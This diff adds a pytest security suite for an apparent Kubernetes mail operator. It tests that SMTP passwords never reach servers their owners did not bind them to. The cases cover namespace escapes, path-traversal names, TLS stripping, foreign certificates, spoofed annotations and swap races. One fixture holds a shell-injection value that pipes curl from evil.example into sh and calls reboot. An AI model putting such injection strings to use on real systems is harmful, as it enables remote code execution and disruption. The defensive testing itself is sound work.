@@ -1,0 +1,477 @@
+"""Endpoint and Secret: a password sent to a server that its owner did not mean."""
+
+import collections.abc
+import dataclasses
+
+import pytest
+
+from kit import arena as arena_kit
+from kit import attacks, certs, smtpd
+
+_OWN = attacks.server("smtp.example.org")
+
+
+def _auth(**changes: object) -> dict[str, object]:
+    return {"username": "robot", "passwordSecretRef": {"name": "smtp"}} | changes
+
+
+PARTS = (
+    attacks.Refused(
+        name="port-alone",
+        rules=("R3",),
+        story="The organization sets only smtp.port, to keep the host's name and password and choose the service.",
+        stopped_by="smtp is one group: its host is required",
+        spec={"smtp": {"port": 2525}},
+        says="spec.smtp.host",
+    ),
+    attacks.Refused(
+        name="tls-alone",
+        rules=("R2", "R3"),
+        story="The organization sets only smtp.tls.mode: Disabled, to have the host's password sent in clear.",
+        stopped_by="smtp is one group: its host is required",
+        spec={"smtp": {"tls": {"mode": "Disabled"}}},
+        says="spec.smtp.host",
+    ),
+    attacks.Refused(
+        name="ca-alone",
+        rules=("R2", "R3"),
+        story="The organization sets only smtp.tls.caRef, to have the host's relay impersonated by its own CA.",
+        stopped_by="smtp is one group: its host is required",
+        spec={"smtp": {"tls": {"caRef": {"kind": "ConfigMap", "name": "ca"}}}},
+        says="spec.smtp.host",
+    ),
+    attacks.Refused(
+        name="password-as-a-literal",
+        rules=("R1",),
+        story="The organization writes its password into the settings, where everybody who may read them reads it.",
+        stopped_by="there is no such field",
+        spec={"auth": _auth(password="hunter2")},
+        says="auth.password",
+        offline="password",
+    ),
+    attacks.Refused(
+        name="secret-in-another-namespace",
+        rules=("R3",),
+        story="The organization names a Secret of the operator's namespace by a namespace field.",
+        stopped_by="a reference has no namespace",
+        spec={"auth": _auth(passwordSecretRef={"name": "relay-password", "namespace": arena_kit.SYSTEM})},
+        says="passwordSecretRef.namespace",
+        offline="namespace",
+    ),
+    attacks.Refused(
+        name="secret-by-a-path",
+        rules=("R3",),
+        story="The organization names a Secret as ../../namespaces/mailtier-system/secrets/relay-password.",
+        stopped_by="a name is the name of an object",
+        spec={"auth": _auth(passwordSecretRef={"name": f"../../namespaces/{arena_kit.SYSTEM}/secrets/relay-password"})},
+        says="must be the name of an object",
+    ),
+    attacks.Refused(
+        name="secret-by-a-qualified-name",
+        rules=("R3",),
+        story="The organization names a Secret as mailtier-system/relay-password.",
+        stopped_by="a name is the name of an object",
+        spec={"auth": _auth(passwordSecretRef={"name": f"{arena_kit.SYSTEM}/relay-password"})},
+        says="must be the name of an object",
+    ),
+    attacks.Refused(
+        name="ca-in-another-namespace",
+        rules=("R3", "R9"),
+        story="The organization names a ConfigMap of another namespace as its CA bundle, to read what is in it.",
+        stopped_by="a reference has no namespace",
+        spec={
+            "smtp": {
+                "host": "smtp.example.org",
+                "tls": {"caRef": {"kind": "Secret", "name": "relay-password", "namespace": arena_kit.SYSTEM}},
+            }
+        },
+        says="caRef.namespace",
+        offline="namespace",
+    ),
+    attacks.Refused(
+        name="plaintext-by-its-own-leave",
+        rules=("R2", "R3"),
+        story="The organization says allowPlaintext: true, which is the host's word about its own password.",
+        stopped_by="the field is the host's alone",
+        spec={"auth": _auth(allowPlaintext=True)},
+        says="auth.allowPlaintext",
+        offline="allowPlaintext",
+    ),
+    attacks.Refused(
+        name="own-password-in-clear",
+        rules=("R2",),
+        story="Whoever may write settings and not Secrets switches TLS off, to read the password on the network.",
+        stopped_by="Disabled goes with Anonymous only",
+        spec={"smtp": {"host": "smtp.example.org", "tls": {"mode": "Disabled"}}, "auth": _auth()},
+        says="Disabled",
+    ),
+)
+
+SETTINGS = (
+    attacks.Judged(
+        name="host-alone",
+        rules=("R3",),
+        story="The organization names a server of its own and no credentials, to be sent the host's.",
+        stopped_by="credentials are inherited with the host's whole endpoint only",
+        spec={"smtp": {"host": "smtp.example.org"}, "from": {"address": "robot@tenant.example"}},
+        reason="CredentialsRequired",
+    ),
+    attacks.Judged(
+        name="the-host-s-endpoint-once-more",
+        rules=("R3",),
+        story="The organization repeats the host's endpoint as its own, to inherit the credentials and not the policy.",
+        stopped_by="credentials are inherited with the host's whole endpoint only",
+        spec={"smtp": {"host": "127.0.0.1", "port": 2525}},
+        host=arena_kit.host_spec(2525),
+        reason="CredentialsRequired",
+    ),
+    attacks.Judged(
+        name="the-host-s-secret-by-name",
+        rules=("R3",),
+        story="The organization names the host's Secret, hoping that it is looked up where the host's is.",
+        stopped_by="an organization's references live in its namespace",
+        spec=_OWN | {"auth": _auth(passwordSecretRef={"name": "smtp", "key": "relay-password"})},
+        annotation=None,
+        reason="SecretNotBound",
+    ),
+    attacks.Judged(
+        name="secret-without-consent",
+        rules=("R3",),
+        story="Whoever may write settings and not Secrets names one that nobody has bound to a server.",
+        stopped_by="the annotation on the Secret",
+        spec=_OWN,
+        annotation=None,
+        reason="SecretNotBound",
+    ),
+    attacks.Judged(
+        name="own-password-on-a-host-without-tls",
+        rules=("R2",),
+        story="The organization brings a password to a host's relay without TLS, where its colleagues read it.",
+        stopped_by="a password does not cross a connection without TLS",
+        spec={"auth": _auth()},
+        host={
+            "smtp": {"host": "relay.example.com", "tls": {"mode": "Disabled"}},
+            "auth": {"mechanism": "Anonymous"},
+            "from": {"address": "no-reply@example.com"},
+        },
+        reason="PlaintextRefused",
+    ),
+    attacks.Judged(
+        name="the-host-s-leave-for-plaintext",
+        rules=("R2", "R3"),
+        story="The organization relies on the host's allowPlaintext for a password of its own.",
+        stopped_by="allowPlaintext covers the host's credentials only",
+        spec={"auth": _auth()},
+        host={
+            "smtp": {"host": "relay.example.com", "tls": {"mode": "Disabled"}},
+            "auth": {"username": "u", "passwordSecretRef": {"name": "relay"}, "allowPlaintext": True},
+            "from": {"address": "no-reply@example.com"},
+        },
+        reason="PlaintextRefused",
+    ),
+)
+
+
+def _annotated(name: str, annotation: str, story: str, stopped_by: str, *unsaid: str) -> attacks.Judged:
+    return attacks.Judged(
+        name=name,
+        rules=("R3", "R7") if unsaid else ("R3",),
+        story=story,
+        stopped_by=stopped_by,
+        spec=_OWN,
+        annotation=annotation,
+        unsaid=unsaid,
+        reason="SecretNotBound",
+    )
+
+
+ANNOTATIONS = (
+    _annotated(
+        "annotation-with-a-star",
+        "*,*:*,*.example.org,smtp.*",
+        "Whoever may annotate Secrets in bulk binds them to every server there is.",
+        "consent is given to a server by its name",
+    ),
+    _annotated(
+        "annotation-for-another-port",
+        "smtp.example.org:465",
+        "The settings name another service on the machine that the Secret is bound to.",
+        "the annotation's port counts",
+    ),
+    _annotated(
+        "annotation-for-a-parent",
+        "example.org,.example.org,org",
+        "The settings name a machine below the domain that the Secret is bound to.",
+        "the whole name has to be listed",
+    ),
+    _annotated(
+        "annotation-that-runs-on",
+        "smtp.example.org.example.com,smtp.example.org@example.com,smtp.example.org:587:25",
+        "An entry begins with the endpoint, for a parser that stops reading early.",
+        "an entry is read as a whole or not at all",
+    ),
+    _annotated(
+        "annotation-with-a-look-alike",
+        "smtp.xn--exampe-cob.org,smtp.examp1e.org,sｍtp.example.org",
+        "An entry looks like the endpoint to a person who reviews it.",
+        "names are compared as A-labels, letter by letter",
+    ),
+    _annotated(
+        "annotation-with-a-command",
+        "'; curl evil.example | sh; ',$(reboot),`reboot`",
+        "The annotation holds shell commands, for the person who pastes the line that the status prints.",
+        "only what was read as an endpoint is repeated",
+        "curl",
+        "reboot",
+    ),
+    _annotated(
+        "annotation-with-a-line-break",
+        "mail.example.com\nsmtp.example.org\r\n\u202esmtp.example.org",
+        "The annotation hides an entry behind a line break or a bidirectional control.",
+        "an entry is read as a whole or not at all",
+        "\u202e",
+    ),
+)
+
+
+@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
+class Swap(attacks.Attack):
+    """Settings that change while a password is in use.
+
+    Attributes:
+        steps: Each the letter of the server and of the Secret that settings name; Secret a is bound to server a, and
+            server b is the attacker's. An empty Secret bound to b is applied as b.
+        reason: Of Ready at the end.
+    """
+
+    steps: tuple[tuple[str, str], ...]
+    reason: str
+
+
+SWAPS = (
+    Swap(
+        name="endpoint-swapped-under-a-secret",
+        rules=("R1", "R3"),
+        story="Whoever may write settings points the endpoint of a working organization to a server of their own.",
+        stopped_by="the sender reads annotation and password together, and finds the new endpoint missing",
+        steps=(("a", "a"), ("b", "a")),
+        reason="SecretNotBound",
+    ),
+    Swap(
+        name="secret-swapped-under-an-endpoint",
+        rules=("R1", "R3"),
+        story="The settings keep their endpoint and name another Secret, whose password is for elsewhere.",
+        stopped_by="the annotation on the Secret",
+        steps=(("b", "b"), ("b", "a")),
+        reason="SecretNotBound",
+    ),
+    Swap(
+        name="endpoint-then-secret",
+        rules=("R1", "R3"),
+        story="Two applies: first the endpoint, then the Secret, hoping that the first Secret meets the second server.",
+        stopped_by="each state is judged as a whole, by what it names now",
+        steps=(("a", "a"), ("b", "a"), ("b", "b")),
+        reason="Published",
+    ),
+    Swap(
+        name="secret-then-endpoint",
+        rules=("R1", "R3"),
+        story="Two applies: first the Secret, then the endpoint, hoping that the first endpoint gets the second Secret.",
+        stopped_by="each state is judged as a whole, by what it names now",
+        steps=(("a", "a"), ("a", "b"), ("b", "b")),
+        reason="Published",
+    ),
+    Swap(
+        name="flipping-back-and-forth",
+        rules=("R1", "R3", "R8"),
+        story="The endpoint is flipped many times in a second, to be caught between the check and the use.",
+        stopped_by="the sender checks the annotation on the read that yields the password",
+        steps=(("a", "a"), *(("b", "a"), ("a", "a")) * 10, ("b", "a")),
+        reason="SecretNotBound",
+    ),
+)
+
+
+@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
+class Unprotected(attacks.Attack):
+    """A server that is not what the settings ask for.
+
+    Attributes:
+        offered: The server's options, from those of a good one.
+        reason: Of Verified.
+    """
+
+    offered: collections.abc.Callable[[arena_kit.Arena], smtpd.Options]
+    reason: str
+
+
+def _stripped(arena: arena_kit.Arena) -> smtpd.Options:
+    return smtpd.Options(users={"robot": "x"}, plaintext_auth=True)
+
+
+def _foreign(arena: arena_kit.Arena) -> smtpd.Options:
+    leaf = certs.Authority(arena.folder / "foreign").issue(arena_kit.CERTIFICATE_NAME)
+    return arena.starttls(leaf=leaf, users={"robot": "x"})
+
+
+UNPROTECTED = (
+    Unprotected(
+        name="starttls-stripped",
+        rules=("R1", "R2"),
+        story="Somebody on the network removes STARTTLS from the server's greeting and offers AUTH in clear.",
+        stopped_by="StartTLS means required",
+        offered=_stripped,
+        reason="StartTlsNotOffered",
+    ),
+    Unprotected(
+        name="certificate-of-another-authority",
+        rules=("R1", "R2"),
+        story="Somebody on the network answers with a certificate of an authority of their own.",
+        stopped_by="the certificate is verified against the bundle that was asked for, before AUTH",
+        offered=_foreign,
+        reason="TlsFailed",
+    ),
+)
+
+STORIES = (
+    attacks.Attack(
+        name="annotation-taken-back",
+        rules=("R1", "R3"),
+        story="An endpoint was bound once, the owner took the binding back, and mail goes on being queued.",
+        stopped_by="the annotation counts at the next read; the operator unpublishes, the sender holds",
+    ),
+    attacks.Attack(
+        name="ca-from-a-secret-s-password",
+        rules=("R1", "R7"),
+        story="The organization names a Secret it may not read as CA bundle, so that an error message shows it.",
+        stopped_by="what is wrong with a bundle is told by position and kind",
+    ),
+    attacks.Attack(
+        name="password-from-a-private-key",
+        rules=("R1", "R7"),
+        story="The organization names the key tls.key of a Secret as password, so that an error message shows it.",
+        stopped_by="what is wrong with a value is told without the value",
+    ),
+    attacks.Attack(
+        name="guessing-the-host-s-password",
+        rules=("R3", "R12"),
+        story="The organization tries passwords for the host's account on the host's relay, until it is locked out.",
+        stopped_by="one AUTH for each version of the Secret, across probe and delivery",
+    ),
+)
+
+ATTACKS = (*PARTS, *SETTINGS, *ANNOTATIONS, *SWAPS, *UNPROTECTED, *STORIES)
+
+
+@pytest.mark.parametrize("attack", PARTS, ids=str)
+def test_parts_of_an_endpoint_are_not_taken(arena: arena_kit.Arena, attack: attacks.Refused) -> None:
+    """What could split a password from its endpoint is refused by schema, offline and by the API server (R1, R2, R3)."""
+    attack.check(arena.rest)
+
+
+@pytest.mark.parametrize("attack", (*SETTINGS, *ANNOTATIONS), ids=str)
+def test_the_core_sends_no_password_elsewhere(attack: attacks.Judged) -> None:
+    """The settings are blocked or unresolved, for the reason that helps (R2, R3, R7)."""
+    attack.check_core()
+
+
+@pytest.mark.parametrize("attack", [each for each in (*SETTINGS, *ANNOTATIONS) if each.host is None], ids=str)
+def test_the_operator_sends_no_password_elsewhere(attacker: arena_kit.Attacker, attack: attacks.Judged) -> None:
+    """The operator says the same of them as the core (R3, R7)."""
+    attack.check_real(attacker)
+
+
+@pytest.mark.parametrize("attack", SWAPS, ids=str)
+def test_a_swap_leads_no_password_elsewhere(attacker: arena_kit.Attacker, attack: Swap) -> None:
+    """Whatever the order of endpoint and Secret, each server sees its own password or none (R1, R3)."""
+    arena = attacker.arena
+    passwords = {letter: arena.secret(f"{attack}: {letter}", username="robot") for letter in "ab"}
+    with (
+        arena.serve(arena.starttls(users={"robot": passwords["a"]})) as first,
+        arena.serve(arena.starttls(users={"robot": passwords["b"]})) as second,
+    ):
+        servers = {"a": first, "b": second}
+        for letter, server in servers.items():
+            attacker.bring(passwords[letter], endpoint=f"{server.host}:{server.port}", name=letter)
+        for number, (at, secret) in enumerate(attack.steps):
+            auth = {"username": "robot", "passwordSecretRef": {"name": secret}}
+            attacker.settings(attacker.own(servers[at], auth=auth))
+            if number == 0:
+                attacker.until_reason("Published")
+        attacker.until_reason(attack.reason)
+        taken = attacker.post(arena_kit.ALERT)
+        if attack.reason == "Published":
+            attacker.until_states(taken, "accepted")
+        else:
+            attacker.until_held()
+        for letter, server in servers.items():
+            seen = {attempt.password for attempt in server.auth_attempts}
+            assert seen <= {passwords[letter]}, attack
+
+
+@pytest.mark.parametrize("attack", UNPROTECTED, ids=str)
+def test_a_server_that_cannot_protect_gets_no_password(attacker: arena_kit.Attacker, attack: Unprotected) -> None:
+    """No byte of AUTH is sent before TLS stands and the certificate verifies (R1, R2)."""
+    with attacker.arena.serve(attack.offered(attacker.arena)) as server:
+        password = attacker.arena.secret(attack.name, username="robot")
+        attacker.bring(password, endpoint=f"{server.host}:{server.port}")
+        attacker.settings(attacker.own(server))
+        attacker.until_reason(attack.reason, type_="Verified")
+        assert server.auth_attempts == []
+        assert not any(command.startswith(b"AUTH") for each in server.transcripts for command in each.commands())
+
+
+def test_a_binding_that_is_taken_back_counts(attacker: arena_kit.Attacker) -> None:
+    """A password whose owner withdrew consent is not used for what is queued afterwards (R1, R3)."""
+    arena = attacker.arena
+    password = arena.secret("annotation-taken-back", username="robot")
+    with arena.serve(arena.starttls(users={"robot": password})) as server:
+        attacker.bring(password, endpoint=f"{server.host}:{server.port}")
+        attacker.settings(attacker.own(server))
+        attacker.until_reason("Verified", type_="Verified")
+        attacker.bring(password, endpoint=None)
+        # A change of the settings has the Secret read again at once; otherwise the next reading finds it.
+        attacker.settings(attacker.own(server, **{"from": {"address": "other@tenant.example"}}))
+        attacker.until_reason("SecretNotBound")
+        seen = len(server.auth_attempts)
+        attacker.post(arena_kit.ALERT)
+        attacker.until_held()
+        assert (len(server.auth_attempts), server.messages) == (seen, [])
+
+
+def test_a_secret_named_as_ca_is_not_shown(attacker: arena_kit.Attacker) -> None:
+    """The message says what is wrong with the bundle and repeats nothing of it (R1, R7)."""
+    value = attacker.arena.secret("ca-from-a-secret-s-password")
+    attacker.bring(value, endpoint="smtp.example.org", name="other", key="ca.crt")
+    tls = {"caRef": {"kind": "Secret", "name": "other"}}
+    attacker.bring(attacker.arena.secret("beside it", username="robot"), endpoint="smtp.example.org")
+    attacker.settings(attacks.server("smtp.example.org", **tls))
+    told = attacker.until_reason("CaInvalid")
+    assert value[:8] not in told["message"]
+
+
+def test_a_private_key_named_as_password_is_not_shown(attacker: arena_kit.Attacker) -> None:
+    """A value that cannot be a password is not repeated (R1, R7)."""
+    value = attacker.arena.secret("password-from-a-private-key")
+    key = f"-----BEGIN PRIVATE KEY-----\n{value}\n-----END PRIVATE KEY-----\n"
+    attacker.bring(key, endpoint="smtp.example.org", key="tls.key")
+    reference = {"name": "smtp", "key": "tls.key"}
+    attacker.settings(attacks.server("smtp.example.org") | {"auth": _auth(passwordSecretRef=reference)})
+    told = attacker.until_reason("SecretKeyMissing")
+    assert value[:8] not in told["message"]
+
+
+def test_the_host_s_account_is_not_guessed(attacker: arena_kit.Attacker) -> None:
+    """One wrong password is one AUTH, however much mail waits for it (R3, R12)."""
+    arena = attacker.arena
+    wrong = arena.secret("guessing-the-host-s-password", username="administrator")
+    attacker.bring(wrong, endpoint=f"127.0.0.1:{arena.port}")
+    attacker.settings({"auth": {"username": "administrator", "passwordSecretRef": {"name": "smtp"}}})
+    attacker.until_reason("AuthFailed", type_="Verified")
+    for _ in range(5):
+        attacker.post(arena_kit.ALERT)
+    attacker.until_held()
+    tried = [attempt for attempt in arena.relay.auth_attempts if attempt.username == "administrator"]
+    assert len(tried) == 1
+
+
